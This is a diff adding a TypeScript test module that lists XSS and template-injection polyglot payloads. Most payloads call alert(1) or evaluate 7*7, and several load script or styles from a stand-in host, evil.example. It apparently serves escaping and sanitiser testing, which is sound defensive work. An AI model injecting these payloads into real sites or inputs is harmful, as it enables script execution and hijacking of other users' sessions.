@@ -1,0 +1,68 @@
+/** What runs in a page where a text gets out of the place that it was put in. Each calls `alert`, and each tries another way out. */
+export const polyglots: readonly string[] = [
+  `'"><img src=x onerror=alert(1)>`,
+  `</title></textarea></style></script><svg onload=alert(1)>`,
+  `'-alert(1)-'"-alert(1)-"\`-alert(1)-\``,
+  `\\'-alert(1)//\\"-alert(1)//\\`,
+  `\${alert(1)}\${7*7}[[\${7*7}]][(\${7*7})]__\${7*7}__{{7*7}}#{7*7}`,
+  `*/alert(1)/*--><img src=x onerror=alert(1)>`,
+  `\nalert(1)\u2028alert(1)\r\nalert(1)//`,
+  `javascript:alert(1)//`,
+  `x onfocus=alert(1) autofocus tabindex=1 style=color:red`,
+  `red;}*{background:url(javascript:alert(1))}@import"//evil.example";x{y:expression(alert(1))`,
+  `&#39;-alert(1)-&quot;&lt;img src=x onerror=alert&lpar;1)&gt;&apos;`,
+  `<!--<script>alert(1)//]]><noscript></noscript><img src=x onerror=alert(1)>`,
+];
+
+/** More ways out, for the runs that have time. */
+export const morePolyglots: readonly string[] = [
+  ...polyglots,
+  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e`,
+  `"><base href=//evil.example><meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
+  `\u0000<\u0000script>alert(1)</script\u0000>`,
+  `\tjava\nscript:alert(1)`,
+  `\u0001javascript:alert(1)`,
+  `vbscript:alert(1)`,
+  `data:text/html,<script>alert(1)</script>`,
+  `//evil.example/\\..//x`,
+  `{{constructor.constructor('alert(1)')()}}`,
+  `{{{this}}}{{#with "s" as |string|}}{{/with}}{{> page}}`,
+  `{{!--}}<%=7*7%><#assign x=7*7>\${T(java.lang.Runtime).getRuntime()}`,
+  `*{7*7}@{javascript:alert(1)}~{::body}|\${7*7}|`,
+  `]]]]><![CDATA[<img src=x onerror=alert(1)>]]>`,
+  `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
+  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
+  `</p></form></select></table></template></svg></math></noscript></iframe></xmp><script>alert(1)</script>`,
+  `"autofocus/onfocus=alert(1)//`,
+  `'autofocus/onfocus=alert(1)//`,
+  `\`onmouseover=alert(1)//`,
+  `<script\x0Csrc=//evil.example></script\x0C>`,
+  `<a href=&#x6A;avascript:alert(1)>x</a>`,
+  `\\u0027-alert(1)-\\u0022`,
+  `\\x27-alert(1)-\\x22`,
+  `\\3c script\\3e alert(1)\\0 "`,
+  `</script/x><script>alert(1)</script>`,
+  `<!--><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>`,
+  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
+  `\ufeff\u202e\u2029alert(1)`,
+  `%22%3E%3Cscript%3Ealert(1)%3C/script%3E`,
+  `;alert(1);`,
+  `)};alert(1);({(`,
+  `1;alert(1)`,
+  `=alert(1)`,
+  `,alert(1),`,
+  `--`,
+  `!important;background:url(//evil.example)`,
+  `-0;content:"\\"`,
+  `<th:block th:utext="\${7*7}"/><p th:text="\${7*7}" data-th-onclick="alert(1)">`,
+  `{0}{1,choice,0#a|1#<b>}'{0}''`,
+  `xlink:href=javascript:alert(1)`,
+  `__proto__`,
+  `constructor`,
+  `toString`,
+];
+
+/** What a text is where it does no harm. @param place which of the texts of a page */
+export function harmlessText(place: number): string {
+  return `Harmless${String(place)}Words`;
+}
